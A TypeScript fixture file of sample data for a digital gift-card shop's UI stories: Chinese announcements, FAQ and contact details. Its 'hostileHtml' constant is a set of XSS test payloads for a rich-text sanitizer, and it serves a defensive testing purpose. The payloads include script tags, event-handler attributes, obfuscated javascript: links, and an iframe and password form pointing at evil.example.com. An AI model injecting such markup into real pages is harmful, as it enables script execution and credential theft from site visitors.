// Believable data for the screens' stories (the shapes of the API contract).
import type { Announcement, AnnouncementSummary, Faq, ServiceContacts } from '@shop/session/contract';

export const sampleAnnouncements: AnnouncementSummary[] = [
  {
    id: 1,
    title: '欢迎来到云卡数字商城',
    pinned: true,
    summary: '本站主营视频会员、游戏点卡、话费充值等数字商品，7×24小时自动发货。新用户注册即送5元优惠券。',
    createdAt: '2026-10-21 09:00:00',
  },
  {
    id: 2,
    title: '双十二会员卡限时特惠',
    pinned: true,
    summary: '活动时间：2026-12-10 至 2026-12-12。腾讯视频VIP月卡 ¥14.80，爱奇艺黄金VIP月卡 ¥15.50。',
    createdAt: '2026-11-18 08:00:00',
  },
  {
    id: 3,
    title: '系统维护通知',
    pinned: false,
    summary: '平台将于 11月27日 02:00-04:00 进行系统升级，期间话费充值暂停，卡密商品不受影响。',
    createdAt: '2026-11-19 07:00:00',
  },
  {
    id: 4,
    title: '关于卡密售后的说明',
    pinned: false,
    summary: '卡密发货后请尽快兑换，超过7天不再受理无效申诉；申请作废请在订单详情提交；人工商品以订单内容为准。',
    createdAt: '2026-11-08 05:00:00',
  },
  {
    id: 5,
    title: '新增QQ钱包、易支付通道',
    pinned: false,
    summary: '即日起支持 QQ钱包、易支付、FxPay 付款，欢迎使用。',
    createdAt: '2026-10-31 06:00:00',
  },
  {
    id: 6,
    title: '防骗提醒',
    pinned: false,
    summary: '本站客服不会以任何理由索要您的登录密码和交易密码。',
    createdAt: '2026-10-06 03:00:00',
  },
];

export const sampleAnnouncement: Announcement = {
  id: 2,
  title: '双十二会员卡限时特惠',
  pinned: true,
  summary: '活动时间：2026-12-10 至 2026-12-12。',
  createdAt: '2026-11-18 08:00:00',
  views: 1268,
  html: '<p>活动时间：<time>2026-12-10</time> 至 <time>2026-12-12</time></p><table><thead><tr><th>商品</th><th>活动价</th></tr></thead><tbody><tr><td>腾讯视频VIP月卡</td><td>¥14.80</td></tr><tr><td>爱奇艺黄金VIP月卡</td><td>¥15.50</td></tr></tbody></table><p><span style="color:#be123c">名额有限，售完即止。</span>详见<a href="/service">客服中心</a>，或访问<a href="https://example.com/rules">活动规则</a>。</p><blockquote>本活动最终解释权归本站所有。</blockquote>',
};

/** The seed's hostile announcement, and more: nothing of it may run. */
export const hostileHtml =
  '<p>这是一条用于检验富文本过滤的公告。</p><script>window.__xss = "script"</script>' +
  '<img src="/no-such-image.png" onerror="window.__xss = \'onerror\'">' +
  '<p><a href="javascript:window.__xss = \'link\'">点此领取红包</a> <a href="JaVaScRiPt:alert(1)">大小写</a> <a href="&#106;avascript:alert(1)">实体</a></p>' +
  '<iframe src="https://evil.example.com"></iframe><svg onload="window.__xss = \'svg\'"><circle r="5"></circle></svg>' +
  '<p style="background:url(javascript:alert(1)); color: #be123c" onclick="window.__xss = \'click\'">点我</p>' +
  '<form action="https://evil.example.com"><input name="password" placeholder="请输入登录密码"><button>提交</button></form>' +
  '<style>body{display:none}</style><a href="//evil.example.com" target="_self">外部链接</a>' +
  '<details open ontoggle="window.__xss = \'toggle\'"><summary>详情</summary>内容</details>';

export const hostileAnnouncement: Announcement = {
  id: 7,
  title: '【测试】富文本兼容性公告',
  pinned: false,
  summary: '这是一条用于检验富文本过滤的公告。',
  createdAt: '2026-10-01 10:00:00',
  views: 321,
  html: hostileHtml,
};

export const sampleContacts: ServiceContacts = {
  qq: '800012345',
  wechat: 'yunka-kefu',
  wechatQr:
    'data:image/svg+xml,' +
    encodeURIComponent(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 21 21" shape-rendering="crispEdges"><rect width="21" height="21" fill="#fff"/><path d="M1 1h7v7H1zM13 1h7v7h-7zM1 13h7v7H1z" fill="#111"/><path d="M2 2h5v5H2zM14 2h5v5h-5zM2 14h5v5H2z" fill="#fff"/><path d="M3 3h3v3H3zM15 3h3v3h-3zM3 15h3v3H3zM10 2h1v3h-1zM9 9h3v3H9zM13 13h2v2h-2zM16 16h3v3h-3zM10 15h2v4h-2z" fill="#111"/></svg>',
    ),
  phone: '400-600-8899',
  email: 'service@yunka.example.com',
  hours: '每日 09:00-23:00（节假日不休）',
};

export const sampleFaq: Faq[] = [
  {
    id: 1,
    question: '付款后多久发货？',
    answer: '卡密类商品付款后自动发货，一般在10秒内；直充类商品5到30分钟到账；人工商品以商品页说明为准。',
  },
  {
    id: 2,
    question: '卡密提示无效怎么办？',
    answer: '请先核对是否复制完整、是否在正确的平台兑换。确认无效请在订单详情中申请作废，客服核实后退款。',
  },
  { id: 3, question: '如何查询我的订单？', answer: '登录后在“我的订单”查看；游客可在“订单查询”页面输入订单号，或联系方式加查询密码查询。' },
];
